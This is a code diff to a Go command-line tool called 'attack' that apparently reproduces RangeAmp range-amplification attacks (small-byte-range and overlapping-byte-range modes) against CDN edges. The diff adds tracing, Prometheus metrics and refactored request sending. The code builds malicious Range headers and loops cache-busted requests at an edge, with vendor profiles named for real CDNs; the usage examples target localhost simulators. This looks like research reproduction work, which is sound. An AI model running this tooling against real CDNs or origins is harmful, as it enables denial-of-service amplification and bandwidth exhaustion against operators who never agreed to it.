@@ -7,21 +7,28 @@
 //
 //	attack -mode sbr -edge 127.0.0.1:8081 -path /10MB.bin -vendor cloudflare -count 10
 //	attack -mode obr -edge 127.0.0.1:8083 -path /1KB.bin -fcdn cloudflare -bcdn akamai
+//	attack -mode sbr -edge 127.0.0.1:8081 -trace-out traces.json   # Perfetto-loadable timeline
 package main
 
 import (
 	"bufio"
 	"flag"
 	"fmt"
+	"io"
+	"log"
 	"net"
+	"net/http"
 	"os"
 	"strconv"
+	"strings"
 	"time"
 
 	"repro/internal/core"
 	"repro/internal/h2"
 	"repro/internal/httpwire"
+	"repro/internal/metrics"
 	"repro/internal/netsim"
+	"repro/internal/trace"
 	"repro/internal/vendor"
 )
 
@@ -32,7 +39,11 @@ func main() {
 	}
 }
 
-func run(args []string, out *os.File) error {
+// sendFunc performs one prepared request against an edge and returns
+// bytes out/in on the wire and the response status.
+type sendFunc func(addr string, req *httpwire.Request) (up, down int64, status int, err error)
+
+func run(args []string, out io.Writer) error {
 	fs := flag.NewFlagSet("attack", flag.ContinueOnError)
 	mode := fs.String("mode", "sbr", "attack: sbr|obr")
 	proto := fs.String("proto", "h1", "protocol to speak to the edge: h1|h2")
@@ -45,11 +56,30 @@ func run(args []string, out *os.File) error {
 	fcdnName := fs.String("fcdn", "cloudflare", "obr: FCDN vendor (selects the range-case lead and limits)")
 	bcdnName := fs.String("bcdn", "akamai", "obr: BCDN vendor (bounds n)")
 	n := fs.Int("n", 0, "obr: number of overlapping ranges (0 = planned max)")
+	metricsAddr := fs.String("metrics-addr", "", "serve Prometheus /metrics, /debug/pprof and /debug/traces on this address (empty = off)")
+	traceOut := fs.String("trace-out", "", "write client-side request spans to this file on exit (.json = Chrome trace-event, else text waterfalls)")
+	traceSample := fs.Int("trace-sample", 0, "record every Nth request as a span (0 = off; -trace-out implies 1); the traceparent header lets a cdnsim edge join the same trace")
 	if err := fs.Parse(args); err != nil {
 		return err
 	}
+	if *traceOut != "" && *traceSample == 0 {
+		*traceSample = 1
+	}
+	if *traceSample > 0 {
+		trace.Default.Configure(trace.Config{SampleEvery: *traceSample, Capacity: 512})
+	}
+	if *metricsAddr != "" {
+		ml, err := net.Listen("tcp", *metricsAddr)
+		if err != nil {
+			return err
+		}
+		mux := metrics.NewDebugMux(metrics.Default)
+		mux.Handle("/debug/traces", trace.Default.Handler())
+		log.Printf("metrics on http://%s/metrics, traces on /debug/traces", ml.Addr())
+		go http.Serve(ml, mux) //nolint:errcheck // dies with the process
+	}
 
-	var sendFn func(addr, target, host, rangeHeader string) (int64, int64, int, error)
+	var sendFn sendFunc
 	switch *proto {
 	case "h1":
 		sendFn = send
@@ -59,16 +89,26 @@ func run(args []string, out *os.File) error {
 		return fmt.Errorf("unknown proto %q", *proto)
 	}
 
-	switch *mode {
+	if err := runMode(*mode, sendFn, *edgeAddr, *path, *host, *vendorName, *sizeBytes, *count, *fcdnName, *bcdnName, *n, out); err != nil {
+		return err
+	}
+	if *traceOut != "" {
+		return writeTraces(*traceOut)
+	}
+	return nil
+}
+
+func runMode(mode string, sendFn sendFunc, edgeAddr, path, host, vendorName string, sizeBytes int64, count int, fcdnName, bcdnName string, n int, out io.Writer) error {
+	switch mode {
 	case "sbr":
-		exploit := core.SBRExploit(*vendorName, *sizeBytes)
-		fmt.Fprintf(out, "SBR against %s: Range: %s (x%d per probe)\n", *edgeAddr, exploit.RangeHeader, exploit.Repeat)
+		exploit := core.SBRExploit(vendorName, sizeBytes)
+		fmt.Fprintf(out, "SBR against %s: Range: %s (x%d per probe)\n", edgeAddr, exploit.RangeHeader, exploit.Repeat)
 		var sent, received int64
 		start := time.Now()
-		for i := 0; i < *count; i++ {
-			target := *path + "?cb=atk" + strconv.Itoa(i)
+		for i := 0; i < count; i++ {
+			target := path + "?cb=atk" + strconv.Itoa(i)
 			for r := 0; r < exploit.Repeat; r++ {
-				up, down, status, err := sendFn(*edgeAddr, target, *host, exploit.RangeHeader)
+				up, down, status, err := tracedSend(sendFn, edgeAddr, target, host, exploit.RangeHeader)
 				if err != nil {
 					return fmt.Errorf("request %d: %w", i, err)
 				}
@@ -80,27 +120,27 @@ func run(args []string, out *os.File) error {
 			}
 		}
 		fmt.Fprintf(out, "sent %d requests in %v: %d bytes out, %d bytes in\n",
-			*count*exploit.Repeat, time.Since(start).Round(time.Millisecond), sent, received)
+			count*exploit.Repeat, time.Since(start).Round(time.Millisecond), sent, received)
 		fmt.Fprintf(out, "origin-side amplification is visible in origind/cdnsim logs\n")
 		return nil
 
 	case "obr":
-		fcdn, ok := vendor.ByName(*fcdnName)
+		fcdn, ok := vendor.ByName(fcdnName)
 		if !ok {
-			return fmt.Errorf("unknown fcdn %q", *fcdnName)
+			return fmt.Errorf("unknown fcdn %q", fcdnName)
 		}
-		bcdn, ok := vendor.ByName(*bcdnName)
+		bcdn, ok := vendor.ByName(bcdnName)
 		if !ok {
-			return fmt.Errorf("unknown bcdn %q", *bcdnName)
+			return fmt.Errorf("unknown bcdn %q", bcdnName)
 		}
-		plan := core.PlanMaxN(fcdn, bcdn, *path)
-		if *n > 0 {
-			plan.N = *n
+		plan := core.PlanMaxN(fcdn, bcdn, path)
+		if n > 0 {
+			plan.N = n
 		}
 		rangeHeader := core.BuildOverlappingRange(plan.FirstToken, plan.N)
 		fmt.Fprintf(out, "OBR against %s: %d overlapping ranges (Range header %d bytes)\n",
-			*edgeAddr, plan.N, len(rangeHeader))
-		up, down, status, err := sendFn(*edgeAddr, *path, *host, rangeHeader)
+			edgeAddr, plan.N, len(rangeHeader))
+		up, down, status, err := tracedSend(sendFn, edgeAddr, path, host, rangeHeader)
 		if err != nil {
 			return err
 		}
@@ -109,13 +149,73 @@ func run(args []string, out *os.File) error {
 		return nil
 
 	default:
-		return fmt.Errorf("unknown mode %q", *mode)
+		return fmt.Errorf("unknown mode %q", mode)
 	}
+}
+
+// attackRequest builds the canonical attack request shape.
+func attackRequest(target, host, rangeHeader string) *httpwire.Request {
+	req := httpwire.NewRequest("GET", target, host)
+	req.Headers.Add("User-Agent", "rangeamp-attack/1.0")
+	if rangeHeader != "" {
+		req.Headers.Add("Range", rangeHeader)
+	}
+	return req
+}
+
+// tracedSend wraps one send in a client root span. The injected
+// traceparent header lets a tracing cdnsim/origind on the far side
+// record its half of the tree under the same trace ID, so the two
+// processes' /debug/traces exports can be correlated.
+func tracedSend(sendFn sendFunc, addr, target, host, rangeHeader string) (int64, int64, int, error) {
+	req := attackRequest(target, host, rangeHeader)
+	sp := trace.Default.StartRoot("attacker", target)
+	if sp.Recording() {
+		if len(rangeHeader) > 48 {
+			rangeHeader = rangeHeader[:45] + "..."
+		}
+		if rangeHeader != "" {
+			sp.SetAttr("range", rangeHeader)
+		}
+		trace.Inject(sp, &req.Headers)
+	}
+	up, down, status, err := sendFn(addr, req)
+	if sp.Recording() {
+		sp.SetAttrInt("bytes_up", up)
+		sp.SetAttrInt("bytes_down", down)
+		if status != 0 {
+			sp.SetAttrInt("status", int64(status))
+		}
+		if err != nil {
+			sp.SetAttr("error", err.Error())
+		}
+	}
+	sp.End()
+	return up, down, status, err
+}
+
+// writeTraces exports the run's completed spans: Chrome trace-event
+// JSON for .json targets, text waterfalls otherwise.
+func writeTraces(path string) error {
+	traces := trace.Default.Traces()
+	f, err := os.Create(path)
+	if err != nil {
+		return err
+	}
+	if strings.HasSuffix(path, ".json") {
+		err = trace.WriteChromeTrace(f, traces)
+	} else {
+		err = trace.WriteWaterfall(f, traces)
+	}
+	if cerr := f.Close(); err == nil {
+		err = cerr
+	}
+	return err
 }
 
 // sendH2 performs one request over prior-knowledge cleartext HTTP/2
 // and returns approximate bytes out/in and the response status.
-func sendH2(addr, target, host, rangeHeader string) (up, down int64, status int, err error) {
+func sendH2(addr string, req *httpwire.Request) (up, down int64, status int, err error) {
 	conn, err := net.Dial("tcp", addr)
 	if err != nil {
 		return 0, 0, 0, err
@@ -124,11 +224,6 @@ func sendH2(addr, target, host, rangeHeader string) (up, down int64, status int,
 	counted := &countingNetConn{Conn: conn, seg: seg}
 	defer counted.Close()
 
-	req := httpwire.NewRequest("GET", target, host)
-	req.Headers.Add("User-Agent", "rangeamp-attack/1.0")
-	if rangeHeader != "" {
-		req.Headers.Add("Range", rangeHeader)
-	}
 	resp, err := h2.Fetch(counted, req)
 	if err != nil {
 		return 0, 0, 0, err
@@ -157,18 +252,13 @@ func (c *countingNetConn) Write(p []byte) (int, error) {
 
 // send performs one raw HTTP/1.1 request and returns bytes out/in and
 // the response status.
-func send(addr, target, host, rangeHeader string) (up, down int64, status int, err error) {
+func send(addr string, req *httpwire.Request) (up, down int64, status int, err error) {
 	conn, err := net.Dial("tcp", addr)
 	if err != nil {
 		return 0, 0, 0, err
 	}
 	defer conn.Close()
 
-	req := httpwire.NewRequest("GET", target, host)
-	req.Headers.Add("User-Agent", "rangeamp-attack/1.0")
-	if rangeHeader != "" {
-		req.Headers.Add("Range", rangeHeader)
-	}
 	req.Headers.Set("Connection", "close")
 	upN, err := req.WriteTo(conn)
 	if err != nil {
